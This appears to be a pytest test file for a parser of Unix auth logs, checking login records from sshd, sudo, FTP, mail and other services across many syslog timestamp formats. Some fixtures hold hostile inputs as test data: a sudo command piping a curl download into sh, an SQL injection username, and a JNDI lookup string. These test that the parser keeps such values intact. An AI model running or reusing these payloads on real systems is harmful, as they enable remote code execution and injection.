"""What login services write, line by line as their sources have it, in every frame of syslog: one attempt, as it was.

OpenSSH: auth.c, auth2.c, packet.c, sshd.c, from version 3 to 10. util-linux: login, su. Others as named beside them.
"""

from __future__ import annotations

from datetime import UTC, datetime
from typing import Any
from zoneinfo import ZoneInfo

import pytest

from kanaria.core.stream import ReadContext
from kanaria.core.zone import LocalTime
from kanaria.formats.auth_log import AuthLog
from tests.reading_formats import Everything, read_all

IP, SIX = "198.51.100.7", "2001:db8::7"
NOW = datetime(2026, 3, 1, tzinfo=UTC)
NINE = datetime(2026, 1, 10, 9, 0, 0, tzinfo=UTC)
FROM = f"from {IP} port 50000"


def read(text: str, **context: Any) -> Everything:
    return read_all(AuthLog(), text.encode(), "auth.log", ReadContext(**{"now": NOW, **context}))


def logons(message: str, tag: str = "sshd[4021]") -> list[dict[str, Any]]:
    found = read(f"Jan 10 09:00:00 srv {tag}: {message}\n")
    assert (found.rows, found.rejects) == (1, [])
    return found.tables["logon"].to_pylist() if "logon" in found.tables else []


# message: (user, address, port, whether it worked, method)
SSH: dict[str, tuple[str | None, str | None, int | None, bool | None, str | None]] = {
    f"Accepted password for ann {FROM} ssh2": ("ann", IP, 50000, True, "password"),
    f"Accepted publickey for ann from {SIX} port 50000 ssh2: ED25519 SHA256:abc": ("ann", SIX, 50000, True, "publickey"),
    f"Accepted publickey for ann {FROM} ssh2: RSA-CERT ID ann (serial 0) CA RSA SHA256:x": ("ann", IP, 50000, True, "publickey"),
    f"Accepted keyboard-interactive/pam for ann {FROM} ssh2": ("ann", IP, 50000, True, "keyboard-interactive/pam"),
    f"Accepted gssapi-with-mic for ann {FROM} ssh2: ann@EXAMPLE": ("ann", IP, 50000, True, "gssapi-with-mic"),
    f"Accepted password for ann {FROM}": ("ann", IP, 50000, True, "password"),
    f"Accepted password for EXAMPLE\\ann {FROM} ssh2": ("EXAMPLE\\ann", IP, 50000, True, "password"),
    f"Failed password for root {FROM} ssh2": ("root", IP, 50000, False, "password"),
    f"Failed password for root {FROM} ssh2 [preauth]": ("root", IP, 50000, False, "password"),
    f"Failed password for invalid user admin {FROM} ssh2": ("admin", IP, 50000, False, "password"),
    f"Failed password for illegal user admin {FROM}": ("admin", IP, 50000, False, "password"),
    f"Failed password for invalid user  {FROM} ssh2": (None, IP, 50000, False, "password"),
    f"Failed none for invalid user support {FROM} ssh2": ("support", IP, 50000, False, "none"),
    f"Failed publickey for root {FROM} ssh2: RSA SHA256:abc": ("root", IP, 50000, False, "publickey"),
    f"Failed password for root from ::ffff:{IP} port 50000 ssh2": ("root", IP, 50000, False, "password"),
    "Failed password for root from fe80::1%eth0 port 50000 ssh2": ("root", "fe80::1", 50000, False, "password"),
    f"Failed password for invalid user a from 192.0.2.99 port 1 ssh2 {FROM} ssh2": (
        "a from 192.0.2.99 port 1 ssh2", IP, 50000, False, "password",
    ),
    f"Invalid user admin {FROM}": ("admin", IP, 50000, False, None),
    f"Invalid user admin from {IP}": ("admin", IP, None, False, None),
    f"Illegal user admin from {IP}": ("admin", IP, None, False, None),
    f"Invalid user  {FROM}": (None, IP, 50000, False, None),
    f"User root from {IP} not allowed because not listed in AllowUsers": ("root", IP, None, False, None),
    f"ROOT LOGIN REFUSED FROM {IP} port 50000": ("root", IP, 50000, False, None),
    f"error: maximum authentication attempts exceeded for root {FROM} ssh2 [preauth]": ("root", IP, 50000, False, None),
    f"error: maximum authentication attempts exceeded for invalid user x {FROM} ssh2 [preauth]": ("x", IP, 50000, False, None),
    f"Disconnecting authenticating user root {IP} port 50000: Too many authentication failures [preauth]": (
        "root", IP, 50000, False, None,
    ),
    f"Connection closed by authenticating user root {IP} port 50000 [preauth]": ("root", IP, 50000, False, None),
    f"Connection reset by invalid user admin {SIX} port 50000 [preauth]": ("admin", SIX, 50000, False, None),
    f"Disconnected from authenticating user root {IP} port 50000 [preauth]": ("root", IP, 50000, False, None),
    f"Did not receive identification string {FROM}": (None, IP, 50000, None, None),
    f"Did not receive identification string from {IP}": (None, IP, None, None, None),
    f"Unable to negotiate with {IP} port 50000: no matching host key type found. Their offer: ssh-rsa [preauth]": (
        None, IP, 50000, None, None,
    ),
    f"banner exchange: Connection {FROM}: invalid format": (None, IP, 50000, None, None),
    f"Connection closed by {IP} port 50000 [preauth]": (None, IP, 50000, None, None),
    f"fatal: Timeout before authentication for {IP} port 50000": (None, IP, 50000, None, None),
    f"Bad protocol version identification 'GET / HTTP/1.0' {FROM}": (None, IP, 50000, None, None),
}  # fmt: skip


@pytest.mark.parametrize("message", SSH)
@pytest.mark.parametrize("tag", ["sshd[4021]", "sshd-session[4021]"])  # the second since OpenSSH 9.8
def test_openssh(message: str, tag: str) -> None:
    (row,) = logons(message, tag)
    assert tuple(row[name] for name in ("user", "src_ip", "src_port", "success", "method")) == SSH[message]
    assert (row["service"], row["host_name"], row["time"]) == ("ssh", "srv", NINE)


@pytest.mark.parametrize(
    "message",
    [
        f"Received disconnect from {IP} port 50000:11: Bye Bye [preauth]",
        f"Disconnected from user ann {IP} port 50000",
        f"Connection from {IP} port 50000 on 192.0.2.1 port 22 rdomain \"\"",
        f"Postponed keyboard-interactive for ann {FROM} ssh2 [preauth]",
        f"Partial publickey for ann {FROM} ssh2: RSA SHA256:x",
        f"Starting session: shell on pts/0 for ann {FROM} id 0",
        "Server listening on 0.0.0.0 port 22.",
        "pam_unix(sshd:session): session closed for user ann",
        "error: Could not load host key: /etc/ssh/ssh_host_dsa_key",
        f"reverse mapping checking getaddrinfo for a.example [{IP}] failed - POSSIBLE BREAK-IN ATTEMPT!",
        "error: PAM: Authentication failure for root from a.example"[:36],
        "",
    ],
)  # fmt: skip
def test_what_openssh_says_besides_is_no_attempt(message: str) -> None:
    assert logons(message) == []


# (program, message): (service, user, address, whether it worked)
OTHERS: dict[tuple[str, str], tuple[str, str | None, str | None, bool]] = {
    ("dropbear[7]", f"Bad password attempt for 'root' from {IP}:50000"): ("ssh", "root", IP, False),
    ("dropbear[7]", f"Password auth succeeded for 'root' from {IP}:50000"): ("ssh", "root", IP, True),
    ("dropbear[7]", f"Pubkey auth succeeded for 'ann' with ssh-ed25519 key SHA256:x from {IP}:50000"): ("ssh", "ann", IP, True),
    ("dropbear[7]", f"Login attempt for nonexistent user from {IP}:50000"): ("ssh", None, IP, False),
    ("su", "FAILED SU (to root) ann on pts/0"): ("su", "root", None, False),  # util-linux
    ("su", "(to root) ann on pts/0"): ("su", "root", None, True),
    ("su[7]", "FAILED su for root by ann"): ("su", "root", None, False),  # shadow
    ("su[7]", "Successful su for root by ann"): ("su", "root", None, True),
    ("login[7]", f"FAILED LOGIN 1 FROM {IP} FOR ann, Authentication failure"): ("login", "ann", IP, False),
    ("login[7]", "FAILED LOGIN (1) on '/dev/tty1' FOR 'ann', Authentication failure"): ("login", "ann", None, False),
    ("login[7]", f"FAILED LOGIN (1) on '/dev/pts/0' from '{IP}' FOR 'ann', Authentication failure"): ("login", "ann", IP, False),
    ("login[7]", f"TOO MANY LOGIN TRIES (3) FROM {IP} FOR ann, Authentication failure"): ("login", "ann", IP, False),
    ("login[7]", f"TOO MANY LOGIN TRIES (3) on '/dev/pts/0' from '{IP}' FOR 'ann'"): ("login", "ann", IP, False),
    ("login[7]", f"ROOT LOGIN  on '/dev/pts/0' from '{IP}'"): ("login", "root", IP, True),
    ("login[7]", f"LOGIN ON pts/1 BY ann FROM {IP}"): ("login", "ann", IP, True),
    ("login[7]", "ROOT LOGIN ON tty1"): ("login", "root", None, True),
    ("vsftpd[7]", f'[ann] FAIL LOGIN: Client "{IP}"'): ("ftp", "ann", IP, False),
    ("vsftpd[7]", f'[ann] OK LOGIN: Client "::ffff:{IP}"'): ("ftp", "ann", IP, True),
    ("vsftpd[7]", f'[ann] FAIL LOGIN: Client "{SIX}"'): ("ftp", "ann", SIX, False),
    ("proftpd[7]", f"192.0.2.1 ({IP}[{IP}]) - USER ann (Login failed): Incorrect password."): ("ftp", "ann", IP, False),
    ("proftpd[7]", f"192.0.2.1 (a.example[{IP}]) - USER ann: no such user found from a.example [{IP}] to 192.0.2.1:21"): (
        "ftp", "ann", IP, False,
    ),
    ("proftpd[7]", f"192.0.2.1 (a.example[{IP}]) - USER ann: Login successful."): ("ftp", "ann", IP, True),
    ("pure-ftpd", f"(?@{IP}) [WARNING] Authentication failed for user [ann]"): ("ftp", "ann", IP, False),
    ("pure-ftpd", f"(?@{IP}) [INFO] ann is now logged in"): ("ftp", "ann", IP, True),
    ("dovecot", f"imap-login: Login: user=<ann>, method=PLAIN, rip={IP}, lip=192.0.2.1, mpid=7, TLS, session=<x>"): (
        "imap", "ann", IP, True,
    ),
    ("dovecot", f"imap-login: Disconnected (auth failed, 1 attempts in 2 secs): user=<ann>, method=PLAIN, rip={IP}, lip=192.0.2.1"): (
        "imap", "ann", IP, False,  # 2.2
    ),
    ("dovecot", f"imap-login: Disconnected: Connection closed (auth failed, 3 attempts in 17 secs): user=<ann@a.example>, "
                f"method=LOGIN, rip={SIX}, lip=2001:db8::1, TLS"): ("imap", "ann@a.example", SIX, False),  # 2.3
    ("dovecot", f"pop3-login: Login aborted: Connection closed (auth failed, 1 attempts in 2 secs) (auth_failed): user=<ann>, "
                f"method=PLAIN, rip={IP}, lip=192.0.2.1"): ("imap", "ann", IP, False),  # 2.4
    ("postfix/smtpd[7]", f"warning: unknown[{IP}]: SASL LOGIN authentication failed: UGFzc3dvcmQ6"): ("smtp", None, IP, False),
    ("postfix/submission/smtpd[7]", f"warning: a.example[{IP}]: SASL PLAIN authentication failed: authentication failure, "
                                    "sasl_username=ann@a.example"): ("smtp", "ann@a.example", IP, False),  # since 3.6
    ("postfix/smtpd[7]", f"A1B2C3: client=a.example[{IP}], sasl_method=LOGIN, sasl_username=ann"): ("smtp", "ann", IP, True),
    ("xrdp-sesman[7]", f"[INFO ] AUTHFAIL: user=ann ip={IP} time=1768035600"): ("rdp", "ann", IP, False),
    ("pvedaemon[7]", f"authentication failure; rhost=::ffff:{IP} user=root@pam msg=Authentication failure"): (
        "proxmox", "root@pam", IP, False,
    ),
    ("pvedaemon[7]", "<root@pam> successful auth for user 'root@pam'"): ("proxmox", "root@pam", None, True),
    ("sudo", "ann : TTY=pts/0 ; PWD=/home/ann ; USER=root ; COMMAND=/usr/bin/id -u"): ("sudo", "ann", None, True),
    ("sudo", "ann : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh"): ("sudo", "ann", None, False),
    ("sudo", "ann : user NOT in sudoers ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh"): ("sudo", "ann", None, False),
    ("sudo", "ann : command not allowed ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh"): ("sudo", "ann", None, False),
    ("sudo[7]", "  ann : HOST=srv ; TTY=unknown ; PWD=/a b ; USER=www-data ; GROUP=adm ; COMMAND=/bin/ls"): ("sudo", "ann", None, True),
    ("sshd[7]", f"pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={IP}  user=root"): (
        "ssh", "root", IP, False,
    ),
    ("su[7]", "pam_unix(su:auth): authentication failure; logname=ann uid=1000 euid=0 tty=/dev/pts/0 ruser=ann rhost=  user=root"): (
        "su", "root", None, False,
    ),
    ("vsftpd[7]", f"pam_unix(vsftpd:auth): authentication failure; logname= uid=0 euid=0 tty=ftp ruser=ann rhost={IP}"): (
        "ftp", "ann", IP, False,
    ),
    ("sshd(pam_unix)[7]", f"authentication failure; logname= uid=0 euid=0 tty=NODEVssh ruser= rhost={IP}  user=root"): (
        "ssh", "root", IP, False,  # Red Hat before 2006
    ),
}  # fmt: skip


@pytest.mark.parametrize(("tag", "message"), OTHERS)
def test_other_services(tag: str, message: str) -> None:
    (row,) = logons(message, tag)
    assert tuple(row[name] for name in ("service", "user", "src_ip", "success")) == OTHERS[tag, message]


@pytest.mark.parametrize(
    ("command", "target", "privileged", "user"),
    [
        ("/usr/bin/systemctl stop auditd", "root", True, "root"),
        ("/bin/sh -c curl -s http://203.0.113.9/x | sh", "root", True, "root"),
        ("/usr/bin/php artisan", "www-data", False, None),
    ],
)
def test_what_sudo_ran_is_a_program_of_the_machine(
    command: str, target: str, privileged: bool, user: str | None
) -> None:
    found = read(f"Jan 10 09:00:00 srv sudo: ann : TTY=pts/0 ; PWD=/ ; USER={target} ; COMMAND={command}\n")
    (logon,), (process,) = found.tables["logon"].to_pylist(), found.tables["process"].to_pylist()
    assert (logon["privileged"], process["command"], process["user"], process["parent_user"]) == (
        privileged,
        command,
        user,
        "ann",
    )


# how a line begins: (its time, the host)
FRAMES: dict[str, tuple[datetime | None, str | None]] = {
    "Jan 10 09:00:00 srv ": (NINE, "srv"),  # RFC 3164
    "Jan 10 09:00:00 srv.example ": (NINE, "srv.example"),
    "<38>Jan 10 09:00:00 srv ": (NINE, "srv"),
    "Jan 10 2026 09:00:00 srv ": (NINE, "srv"),
    "Jan 10 09:00:00.250 srv ": (NINE.replace(microsecond=250_000), "srv"),
    "2026-01-10T09:00:00Z srv ": (NINE, "srv"),
    "2026-01-10T09:00:00.250000+00:00 srv ": (NINE.replace(microsecond=250_000), "srv"),
    "2026-01-10T18:00:00+09:00 srv ": (NINE, "srv"),
    "2026-01-10T14:30:00+0530 srv ": (NINE, "srv"),  # journalctl -o short-iso
    "Sat 2026-01-10 09:00:00 UTC srv ": (NINE, "srv"),  # journalctl -o short-full
    "Sat 2026-01-10 14:30:00 +0530 srv ": (NINE, "srv"),
    "Sat 2026-01-10 06:00:00 -03 srv ": (NINE, "srv"),
    "1768035600.000000 srv ": (NINE, "srv"),  # journalctl -o short-unix
    "2026-01-10T05:30:00-03:30 srv ": (NINE, "srv"),
    "2026-01-10 09:00:00 srv ": (NINE, "srv"),
    "Sat Jan 10 09:00:00 2026 authpriv.warn ": (NINE, None),  # OpenWrt's logread
    "Dec 31 23:59:60 srv ": (datetime(2025, 12, 31, 23, 59, 59, tzinfo=UTC), "srv"),  # a leap second
    "Feb 29 09:00:00 srv ": (datetime(2024, 2, 29, 9, 0, 0, tzinfo=UTC), "srv"),  # the latest year that has one
    "Mar  2 09:00:00 srv ": (datetime(2025, 3, 2, 9, 0, 0, tzinfo=UTC), "srv"),  # more than a day ahead of the clock
    "Mar  1 23:00:00 srv ": (datetime(2026, 3, 1, 23, 0, 0, tzinfo=UTC), "srv"),  # less: clocks and zones differ
}  # fmt: skip


@pytest.mark.parametrize("frame", FRAMES)
def test_frames_of_syslog(frame: str) -> None:
    found = read(f"{frame}sshd[4021]: Failed password for root {FROM} ssh2\n")
    assert found.rejects == []
    (row,) = found.tables["logon"].to_pylist()
    assert (row["time"], row["host_name"]) == FRAMES[frame]
    assert (row["user"], row["src_ip"], row["success"]) == ("root", IP, False)


@pytest.mark.parametrize(
    "frame",
    [
        "<38>1 2026-01-10T18:00:00.25+09:00 srv sshd 4021 - - ",
        '<38>1 2026-01-10T09:00:00.25Z srv sshd 4021 ID1 [a@1 b="c"] ',
    ],
)
def test_frames_of_rfc_5424(frame: str) -> None:
    (row,) = read(f"{frame}Failed password for root {FROM} ssh2\n").tables["logon"].to_pylist()
    assert (row["time"], row["host_name"], row["src_ip"]) == (NINE.replace(microsecond=250_000), "srv", IP)


@pytest.mark.parametrize(
    ("zone", "hour", "minute"),
    [("Asia/Tokyo", 0, 0), ("Asia/Kolkata", 3, 30), ("America/New_York", 14, 0), ("UTC", 9, 0)],
)
def test_local_times_are_of_the_zone_that_is_told(zone: str, hour: int, minute: int) -> None:
    text = f"Jan 10 09:00:00 srv sshd[1]: Failed password for root {FROM} ssh2\n"
    (row,) = read(text, zone=LocalTime(ZoneInfo(zone))).tables["logon"].to_pylist()
    assert row["time"] == datetime(2026, 1, 10, hour, minute, tzinfo=UTC)


@pytest.mark.parametrize("end", [b"\r\n", b"\n", b""])
@pytest.mark.parametrize("start", [b"", b"\xef\xbb\xbf", b"\n\n"])
def test_line_ends_and_marks_of_editors(start: bytes, end: bytes) -> None:
    data = start + f"Jan 10 09:00:00 srv sshd[1]: Failed password for root {FROM} ssh2".encode() + end
    found = read_all(AuthLog(), data, "auth.log", ReadContext(now=NOW))
    assert (found.rows, found.rejects) == (1, [])
    (row,) = found.tables["logon"].to_pylist()
    assert (row["user"], row["src_port"], row["time"]) == ("root", 50000, NINE)


@pytest.mark.parametrize(
    "name",
    [
        "日本語",
        "ü".encode("latin-1").decode("latin-1"),
        "a\tb",
        "x" * 400,
        "'; DROP TABLE logon; --",
        "${jndi:ldap://a.example}",
    ],
)
def test_names_are_kept_as_they_were_sent(name: str) -> None:
    (row,) = logons(f"Failed password for invalid user {name} {FROM} ssh2")
    assert (row["user"], row["src_ip"]) == (name, IP)


@pytest.mark.parametrize("raw", [b"\xff\xfe", "日本".encode("euc-jp"), "日本".encode("shift-jis"), b"\x00\x01"])
def test_bytes_that_are_no_text_cost_nothing_else(raw: bytes) -> None:
    data = b"Jan 10 09:00:00 srv sshd[1]: Failed password for invalid user " + raw + f" {FROM} ssh2\n".encode()
    (row,) = read_all(AuthLog(), data, "auth.log", ReadContext(now=NOW)).tables["logon"].to_pylist()
    assert (row["src_ip"], row["src_port"], row["success"]) == (IP, 50000, False)


def test_cut_at_any_byte_no_address_is_told_that_was_not_there() -> None:
    line = f"Jan 10 09:00:00 srv sshd[4021]: Failed password for root {FROM} ssh2"
    for size in range(1, len(line)):
        found = read(line[:size] + "\n")
        rows = found.tables["logon"].to_pylist() if "logon" in found.tables else []
        assert found.rows == 1
        for row in rows:
            assert row["user"] in ("root", None)
            assert row["src_ip"] is None or IP.startswith(row["src_ip"])
        if size < len("Jan 10 09:00:00 srv sshd"):
            assert rows == []
